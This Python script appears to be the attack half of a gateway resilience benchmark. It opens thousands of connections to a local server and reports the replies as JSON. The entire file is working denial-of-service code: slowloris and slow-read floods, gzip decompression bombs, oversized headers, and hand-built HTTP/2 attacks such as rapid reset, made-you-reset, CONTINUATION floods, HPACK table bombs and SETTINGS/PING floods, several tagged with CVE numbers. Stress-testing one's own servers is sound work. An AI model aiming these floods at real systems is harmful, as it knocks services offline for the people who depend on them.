"""The attackers of floods.py: `floods_attack.py ATTACK PORT TLS_PORT SECONDS` does one thing to the gateway, over as many connections at a time
as the attack has, opens another one for each that ends, and says as JSON what was answered and how connections ended.

HTTP/2 is written by hand: frames (RFC 9113 §4.1), and fields as literals without Huffman (RFC 7541 §6.2).
"""
import collections
import dataclasses
import errno
import gzip
import itertools
import json
import re
import select
import socket
import ssl
import struct
import sys
import time
import typing

ROUND = 0.05
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
          "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = b"GET /target HTTP/1.1\r\nHost: bench\r\n"
POST = b"POST /target HTTP/1.1\r\nHost: bench\r\n"
# A gigabyte of zeros in a megabyte.
BOMB = gzip.compress(bytes(64 << 20), 9) * 16


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, bits, first):
    """A number as HPACK has it, in the last bits of the first byte."""
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out, value = [first | top], value - top
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def text(value):
    return integer(len(value), 7, 0) + value


def field(name, value, first=0):
    """A literal field with a new name; `first` 0x40 has it put into the table."""
    return bytes([first]) + text(name) + text(value)


def head(path=b"/target", method=b"\x82"):
    """The pseudo-fields: the method from the static table, http, the path and the authority."""
    return method + b"\x86\x04" + text(path) + b"\x01" + text(b"bench")


def hello(**settings):
    """What a client of HTTP/2 begins with."""
    numbers = {"table": 1, "streams": 3, "window": 4}
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in settings.items()))


def request(stream, *more, path=b"/target", method=b"\x82", flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, b"".join([head(path, method), *more]))


def odd():
    """Numbers of a client's streams."""
    return itertools.count(1, 2)


def fifty(of):
    """What `of` makes of each of fifty streams, over and over."""
    streams = odd()
    while True:
        yield b"".join(of(stream) for stream in itertools.islice(streams, 50))


@dataclasses.dataclass
class Attack:
    """What each connection sends, in turn, and when."""
    what: str
    # So many are open at a time.
    connections: int
    # The pieces that connection number n sends. What comes after the last one is silence.
    pieces: typing.Callable[[int], typing.Iterator[bytes]]
    # Seconds between two pieces; without any as fast as they are taken.
    every: float = 0
    # Bytes that are read each time; None is all there is.
    reads: int | None = None
    # Ends by itself, once it was answered where it said something.
    leaves: bool = False
    tls: bool = False
    # Speaks HTTP/2.
    h2: bool = False


def silence(_):
    yield b""


def half_head(_):
    yield GET + b"X-Half: "


def long_head(_):
    """Most of what a head may have, and not its end."""
    yield GET + b"X-Long: " + b"x" * 60_000


def slowloris(_):
    yield GET
    for number in itertools.count():
        yield b"X-%d: y\r\n" % number


def slow_body(_):
    yield POST + b"Content-Length: 1000000\r\n\r\n"
    while True:
        yield b"x"


def slow_read(_):
    yield (b"GET /target/4194304 HTTP/1.1\r\nHost: bench\r\n\r\n") * 16


def slow_read_h2(_):
    """As many streams as may be. What was refused is asked for again."""
    get = lambda streams: b"".join(request(stream, path=b"/target/4194304") for stream in streams)
    streams = odd()
    yield hello(window=1) + get(itertools.islice(streams, 100))
    while True:
        more = b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in itertools.islice(odd(), 100))
        yield more + get(itertools.islice(streams, 5))


def pipelining(_):
    while True:
        yield (GET + b"\r\n") * 200


def small_chunks(_):
    yield POST + b"Transfer-Encoding: chunked\r\n\r\n"
    while True:
        yield b"1;a=b\r\nx\r\n" * 1000


def big_heads(number):
    """Many fields, or one without an end."""
    yield GET + (b"a: b\r\n" * 10_000 if number % 2 else b"X-Long: ")
    while True:
        yield b"x" * 16_384


def cookies(number):
    """As large as is allowed, over and over; or larger."""
    if number % 2:
        yield GET + b"Cookie: a=" + b"x" * 1_000_000 + b"\r\n\r\n"
    while True:
        yield GET + b"Cookie: a=" + b"x" * 60_000 + b"\r\n\r\n"


def cookies_h2(_):
    """One crumb in the table, and as many as a head may have by a byte each."""
    yield hello()
    crumb = integer(32, 6, 0x40) + text(b"a=" + b"x" * 200)
    for stream in odd():
        yield request(stream, crumb if stream == 1 else b"", b"\xbe" * 150)


def table_bomb(_):
    """A field of 4 KB in the table, and a byte for each time it is said again: 16 KB on the wire are 60 MB."""
    yield hello()
    for stream in odd():
        yield request(stream, field(b"x-bomb", b"x" * 3_900, 0x40) if stream == 1 else b"", b"\xbe" * (11_000 if stream == 1 else 16_000))


def bombs(number):
    """A gigabyte of zeros in a megabyte, sent to the service, or by it."""
    while number % 2:
        yield POST + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(BOMB) + BOMB
    while True:
        yield b"GET /target/bomb HTTP/1.1\r\nHost: bench\r\nAccept-Encoding: gzip\r\n\r\n"


def rapid_reset(_):
    yield hello()
    yield from fifty(lambda stream: request(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def made_you_reset(_):
    """What breaks the rules of a stream, so that it is the server that resets it (CVE-2025-8671)."""
    yield hello()
    yield from fifty(lambda stream: request(stream) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", (1 << 31) - 1)))


def continuation(number):
    """A head without an end, in full frames or in empty ones."""
    piece = field(b"x-long", b"x" * 1_000) * 16 if number % 2 else b""
    yield hello() + request(1, flags=END_STREAM)
    while True:
        yield frame(CONTINUATION, 0, 1, piece) * (1 if piece else 500)


def settings(_):
    yield hello()
    while True:
        yield frame(SETTINGS, 0, 0) * 500


def table_sizes(_):
    """Settings that each change the table of fields."""
    yield hello()
    while True:
        yield b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 1, size)) for size in (0, 4_096) * 100)


def ping(_):
    yield hello()
    while True:
        yield frame(PING, 0, 0, b"floodped") * 500


def empty_data(_):
    yield hello() + request(1, method=b"\x83", flags=END_HEADERS)
    while True:
        yield frame(DATA, 0, 1) * 500


def small_data(_):
    """What a stream's window has room for, in pieces of a byte, to a service that reads nothing."""
    yield hello() + request(1, path=b"/target/hold", method=b"\x83", flags=END_HEADERS)
    for _ in range(130):
        yield frame(DATA, 0, 1, b"x") * 500


def handshake(_):
    """A real ClientHello, made once: the answer costs the server a signature, and the attacker nothing."""
    yield CLIENT_HELLO


def client_hello():
    out = ssl.MemoryBIO()
    context = ssl.create_default_context()
    talk = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="bench.example")
    try:
        talk.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


CLIENT_HELLO = client_hello()
ATTACKS = {
    "connects": Attack("connections that come and go", 64, silence, leaves=True),
    "silence": Attack("10,000 connections that say nothing", 10_000, silence, every=1),
    "half-open": Attack("10,000 connections with half a head", 10_000, half_head, every=1),
    "long-heads": Attack("10,000 connections with 60 KB of a head", 10_000, long_head, every=1),
    "slowloris": Attack("10,000 heads, a field each second", 10_000, slowloris, every=1),
    "slow-body": Attack("10,000 bodies, a byte each second", 10_000, slow_body, every=1),
    "slow-read": Attack("500 clients of 16 × 4 MB, 256 bytes each second", 500, slow_read, every=1, reads=256),
    "slow-read-h2": Attack("50 clients of 100 × 4 MB, a byte of each a second", 50, slow_read_h2, every=1, h2=True),
    "pipelining": Attack("requests whose answers nobody reads", 32, pipelining, reads=0),
    "small-chunks": Attack("chunks of a byte", 16, small_chunks),
    "big-heads": Attack("10,000 fields, or one without an end", 16, big_heads),
    "cookies": Attack("cookies of 60 KB and 1 MB", 16, cookies),
    "cookies-h2": Attack("150 × a cookie of 200 bytes for 150 bytes", 16, cookies_h2, h2=True),
    "table-bomb": Attack("heads of 60 MB in 16 KB (HPACK)", 16, table_bomb, h2=True),
    "gzip-bombs": Attack("bodies of 1 GB in 1 MB, both ways", 16, bombs),
    "rapid-reset": Attack("requests taken back (CVE-2023-44487)", 16, rapid_reset, h2=True),
    "made-you-reset": Attack("requests that have to be reset (CVE-2025-8671)", 16, made_you_reset, h2=True),
    "continuation": Attack("CONTINUATION without an end (CVE-2024-27316)", 16, continuation, h2=True),
    "settings": Attack("SETTINGS (CVE-2019-9515)", 16, settings, h2=True),
    "settings-unread": Attack("the same, answers not read", 16, settings, reads=0, h2=True),
    "table-sizes": Attack("SETTINGS that change the table", 16, table_sizes, h2=True),
    "ping": Attack("PING (CVE-2019-9512)", 16, ping, h2=True),
    "ping-unread": Attack("the same, answers not read", 16, ping, reads=0, h2=True),
    "empty-data": Attack("empty DATA (CVE-2019-9518)", 16, empty_data, h2=True),
    "small-data": Attack("64 KB in DATA of a byte, which the service does not read", 60, small_data, h2=True),
    "handshakes": Attack("TLS handshakes that are not finished", 64, handshake, leaves=True, tls=True),
}


class Connection:
    """One of the attack's connections."""

    def __init__(self, attack, number, port, tally):
        self.attack, self.tally = attack, tally
        self.pieces = attack.pieces(number)
        self.out, self.got, self.goaway, self.status, self.left = b"", b"", None, "?", False
        self.sock = socket.socket()
        self.sock.setblocking(False)
        if attack.reads is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        # No memory of it stays when it goes, and ports do not run out.
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.sock.bind((f"127.0.0.{2 + number % 200}", 0))
        try:
            self.sock.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass

    def interest(self):
        reads = select.EPOLLIN if self.attack.reads is None else 0
        return reads | (0 if self.attack.every else select.EPOLLOUT)

    def write(self):
        """Sends the next piece. False when there is none any more."""
        if not self.out:
            self.out = next(self.pieces, None)
            if self.out is None:
                self.out = b""
                return False
        try:
            self.out = self.out[self.sock.send(self.out):]
        except BlockingIOError:
            pass
        return True

    def read(self, most=1 << 16):
        """False at the end."""
        try:
            while piece := self.sock.recv(most):
                self.take(piece)
                if self.attack.reads is not None:
                    return True
        except BlockingIOError:
            return True
        return False

    def take(self, piece):
        if self.attack.tls:
            self.left = self.attack.leaves
            self.tally["answers"]["a ServerHello" if piece[:1] == b"\x16" else "an alert" if piece[:1] == b"\x15" else "more"] += 1
        elif self.attack.h2:
            self.got += piece
            while len(self.got) >= 9 and len(self.got) >= 9 + (size := int.from_bytes(self.got[:3], "big")):
                self.frame(self.got[3], self.got[9:9 + size])
                self.got = self.got[9 + size:]
        else:
            for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", self.got + piece):
                self.tally["answers"][status.decode()] += 1
            self.got = piece[-12:] if b"HTTP" in piece[-12:] and not re.search(rb"HTTP/1\.1 (\d{3}) ", piece[-12:]) else b""

    def frame(self, kind, payload):
        if kind == GOAWAY:
            self.goaway = word(payload[4:8])
        elif kind == RST_STREAM:
            self.tally["answers"][f"RST_STREAM {word(payload)}"] += 1
        elif kind == HEADERS:
            self.tally["answers"][self.said(payload)] += 1

    def said(self, block):
        """The status a head begins with. One of the table that was filled in on the way is taken for the last that was written out."""
        first = block[0]
        if first & 0x80:
            static = {0x88: "200", 0x8c: "400", 0x8d: "404", 0x8e: "500"}
            return static.get(first, self.status)
        huffman, size = block[1] & 0x80, block[1] & 0x7f
        value = block[2:2 + size]
        self.status = digits(value) if huffman else value.decode()
        return self.status

    def end(self, how):
        self.tally["ends"][f"GOAWAY {self.goaway}" if self.goaway else how] += 1
        self.sock.close()


def word(code):
    code = int.from_bytes(code, "big")
    return ERRORS[code] if code < len(ERRORS) else hex(code)


def digits(value):
    """Digits that are written in Huffman's code (RFC 7541, appendix B)."""
    bits = "".join(f"{byte:08b}" for byte in value)
    codes = {f"{code:05b}": str(code) for code in range(3)} | {f"{0x19 + code - 3:06b}": str(code) for code in range(3, 10)}
    out = ""
    while len(out) < 3:
        code = next((code for code in codes if bits.startswith(code)), None)
        if code is None:
            return "?"
        out, bits = out + codes[code], bits[len(code):]
    return out


class Crowd:
    """All connections of the attack."""

    def __init__(self, attack, port):
        self.attack, self.port = attack, port
        self.poll, self.open, self.opened = select.epoll(), {}, 0
        self.tally = {"answers": collections.Counter(), "ends": collections.Counter()}

    def fill(self):
        """Opens what is missing, some hundreds at a time so that the others have their turn."""
        for _ in range(min(200, self.attack.connections - len(self.open))):
            try:
                connection = Connection(self.attack, self.opened, self.port, self.tally)
            except OSError as error:
                self.tally["ends"][f"no connection: {errno.errorcode[error.errno]}"] += 1
                return
            self.opened += 1
            self.open[connection.sock.fileno()] = connection
            self.poll.register(connection.sock, connection.interest())

    def end(self, connection, how):
        del self.open[connection.sock.fileno()]
        self.poll.unregister(connection.sock)
        connection.end(how)

    def step(self, connection, events, writes):
        try:
            if events & select.EPOLLIN and not connection.read():
                return self.end(connection, "closed")
            if connection.left:
                return self.end(connection, "left")
            if events & (select.EPOLLHUP | select.EPOLLERR):
                # What was said before the end is still there.
                connection.attack = dataclasses.replace(connection.attack, reads=None)
                return self.end(connection, "reset" if connection.read() else "closed")
            if writes and not connection.write():
                if self.attack.leaves and not self.attack.tls:
                    return self.end(connection, "left")
                self.poll.modify(connection.sock, connection.interest() & ~select.EPOLLOUT)
        except ConnectionError:
            self.end(connection, "reset")

    def drip(self):
        for connection in list(self.open.values()):
            try:
                connection.write()
                if self.attack.reads:
                    connection.read(self.attack.reads)
            except ConnectionError:
                self.end(connection, "reset")
            except BlockingIOError:
                pass

    def run(self, seconds):
        start = time.monotonic()
        due = start
        while time.monotonic() - start < seconds:
            self.fill()
            for file, events in self.poll.poll(ROUND, 256):
                if connection := self.open.get(file):
                    self.step(connection, events, events & select.EPOLLOUT)
            if self.attack.every and time.monotonic() >= due:
                due = time.monotonic() + self.attack.every
                self.drip()
        for connection in list(self.open.values()):
            self.end(connection, "open at the end")
        return {"opened": self.opened, **self.tally}


def main():
    name, port, tls_port, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    attack = ATTACKS[name]
    print(json.dumps(Crowd(attack, tls_port if attack.tls else port).run(seconds)))


if __name__ == "__main__":
    main()
